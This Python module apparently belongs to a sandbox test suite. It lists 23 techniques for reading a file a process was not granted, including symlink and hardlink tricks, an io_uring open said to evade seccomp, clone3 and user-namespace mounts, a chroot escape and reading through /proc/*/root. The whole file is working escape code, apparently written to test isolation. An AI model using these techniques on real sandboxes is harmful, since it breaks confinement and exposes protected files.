"""Ways to read a file that was not granted. Each gets one target's path."""

from __future__ import annotations

import ctypes
import mmap
import os
import struct
import subprocess
from pathlib import Path

from arsenal.kernel import CLONE_NEWNS, CLONE_NEWUSER, call, check, gain_power, libc, slurp

MS_BIND, MS_REC, MS_PRIVATE = 0x1000, 0x4000, 0x40000


def scratch(name: str) -> str:
    return os.path.join(os.environ["TMPDIR"], f"{name}-{os.getpid()}")


def direct(path: str) -> bytes:
    return Path(path).read_bytes()


def dot_dot(path: str) -> bytes:
    return Path(os.getcwd() + "/.." * 12 + path).read_bytes()


def symlink(path: str) -> bytes:
    os.symlink(path, scratch("link"))
    return Path(scratch("link")).read_bytes()


def symlinked_folder(path: str) -> bytes:
    os.symlink(os.path.dirname(path), scratch("folder"))
    return Path(scratch("folder"), os.path.basename(path)).read_bytes()


def hardlink(path: str) -> bytes:
    """A scratch on the same file system would be needed: beside the target, and in scratch."""
    for place in (scratch("hard"), f"{os.path.dirname(os.path.dirname(path))}/hard-{os.getpid()}"):
        try:
            os.link(path, place)
            return Path(place).read_bytes()
        except OSError as error:
            problem = error
    raise problem


def rename(path: str) -> bytes:
    moved = f"{path}-{os.getpid()}"
    os.rename(path, moved)
    try:
        return Path(moved).read_bytes()
    finally:
        os.rename(moved, path)


def subprocess_cat(path: str) -> bytes:
    return subprocess.run(["/bin/cat", path], capture_output=True, check=True).stdout


def shell(path: str) -> bytes:
    return subprocess.run(f"head -c 65536 < '{path}'", shell=True, capture_output=True, check=True).stdout


def ctypes_open(path: str) -> bytes:
    return slurp(check(libc.open(path.encode(), os.O_RDONLY)))


def openat2(path: str) -> bytes:
    return slurp(call("openat2", -100, path.encode(), struct.pack("<QQQ", os.O_RDONLY, 0, 0), 24))


def opath_then_proc(path: str) -> bytes:
    place = os.open(path, os.O_PATH)
    return Path(f"/proc/self/fd/{place}").read_bytes()


def opath_then_exec(path: str) -> bytes:
    place = os.open(path, os.O_PATH)
    return subprocess.run(
        ["/bin/cat", f"/proc/self/fd/{place}"], pass_fds=[place], capture_output=True, check=True
    ).stdout


def folder_descriptor(path: str) -> bytes:
    folder = os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY)
    return slurp(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=folder))


def open_by_handle(path: str) -> bytes:
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 136)
    call("name_to_handle_at", -100, path.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    for mount in (os.path.dirname(path), "/", "."):
        try:
            return slurp(call("open_by_handle_at", os.open(mount, os.O_RDONLY), handle, os.O_RDONLY))
        except OSError as error:
            problem = error
    raise problem


def io_uring(path: str) -> bytes:
    """Open through a ring: seccomp sees no open and old Landlocks saw none either."""
    parameters = ctypes.create_string_buffer(120)
    ring = call("io_uring_setup", 4, parameters)
    words = struct.unpack("<30I", parameters.raw)
    entries, cq_entries = words[0], words[1]
    sq_tail, sq_array = words[11], words[16]
    cq_cqes = words[25]
    submissions = mmap.mmap(ring, sq_array + entries * 4, offset=0)
    completions = mmap.mmap(ring, cq_cqes + cq_entries * 16, offset=0x8000000)
    queue = mmap.mmap(ring, entries * 64, offset=0x10000000)
    name = ctypes.create_string_buffer(path.encode())
    queue[:64] = struct.pack(
        "<BBHiQQIIQ", 18, 0, 0, -100, 0, ctypes.addressof(name), 0, os.O_RDONLY, 7
    ).ljust(64, b"\0")
    submissions[sq_array : sq_array + 4] = struct.pack("<I", 0)
    submissions[sq_tail : sq_tail + 4] = struct.pack("<I", 1)
    call("io_uring_enter", ring, 1, 1, 1, None, 0)
    result = struct.unpack("<Qi", completions[cq_cqes : cq_cqes + 12])[1]
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return slurp(result)


def bind_mount(path: str) -> bytes:
    os.mkdir(scratch("bind"))
    gain_power(CLONE_NEWNS)
    check(
        libc.mount(os.path.dirname(path).encode(), scratch("bind").encode(), b"none", MS_BIND | MS_REC, None)
    )
    return Path(scratch("bind"), os.path.basename(path)).read_bytes()


def remount_over(path: str) -> bytes:
    """Take away whatever hides the path."""
    gain_power(CLONE_NEWNS)
    check(libc.mount(b"none", b"/", b"none", MS_REC | MS_PRIVATE, None))
    os.mkdir(scratch("old"))
    check(libc.mount(b"tmpfs", scratch("old").encode(), b"tmpfs", 0, None))
    libc.umount2(os.path.dirname(path).encode(), 2)
    return Path(path).read_bytes()


def open_tree(path: str) -> bytes:
    gain_power(CLONE_NEWNS)
    tree = call("open_tree", -100, os.path.dirname(path).encode(), 1 | 0x8000)
    return slurp(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=tree))


def chroot(path: str) -> bytes:
    gain_power(CLONE_NEWNS)
    os.chroot(os.path.dirname(path))
    return Path("/" + os.path.basename(path)).read_bytes()


def chroot_escape(path: str) -> bytes:
    """The old way out of a chroot: keep a folder open, chroot below it, climb."""
    os.mkdir(scratch("jail"))
    gain_power(CLONE_NEWNS)
    outside = os.open("/", os.O_RDONLY)
    os.chroot(scratch("jail"))
    os.fchdir(outside)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return Path(path).read_bytes()


def unshare_user(path: str) -> bytes:
    """An ordinary user's way to be root somewhere, and mount there."""
    check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS))
    os.mkdir(scratch("user"))
    check(
        libc.mount(os.path.dirname(path).encode(), scratch("user").encode(), b"none", MS_BIND | MS_REC, None)
    )
    return Path(scratch("user"), os.path.basename(path)).read_bytes()


def clone3_user(path: str) -> bytes:
    """The same by clone3, whose flags seccomp cannot see."""
    reader, writer = os.pipe()
    child = call("clone3", struct.pack("<QQQQQQQQ", CLONE_NEWUSER | CLONE_NEWNS, 0, 0, 0, 17, 0, 0, 0), 64)
    if child == 0:
        os.write(writer, Path(path).read_bytes())
        os._exit(0)
    os.close(writer)
    return os.read(reader, 1 << 16)


def every_process_root(path: str) -> bytes:
    """Through any process that can be seen; the launcher's own are among them."""
    problem: OSError = OSError("no process seen")
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            return Path(f"/proc/{name}/root{path}").read_bytes()
        except OSError as error:
            problem = error
    raise problem


ATTACKS = [
    direct,
    dot_dot,
    symlink,
    symlinked_folder,
    hardlink,
    rename,
    subprocess_cat,
    shell,
    ctypes_open,
    openat2,
    opath_then_proc,
    opath_then_exec,
    folder_descriptor,
    open_by_handle,
    io_uring,
    bind_mount,
    remount_over,
    open_tree,
    chroot,
    chroot_escape,
    unshare_user,
    clone3_user,
    every_process_root,
]
PRIVILEGED = [open_by_handle]
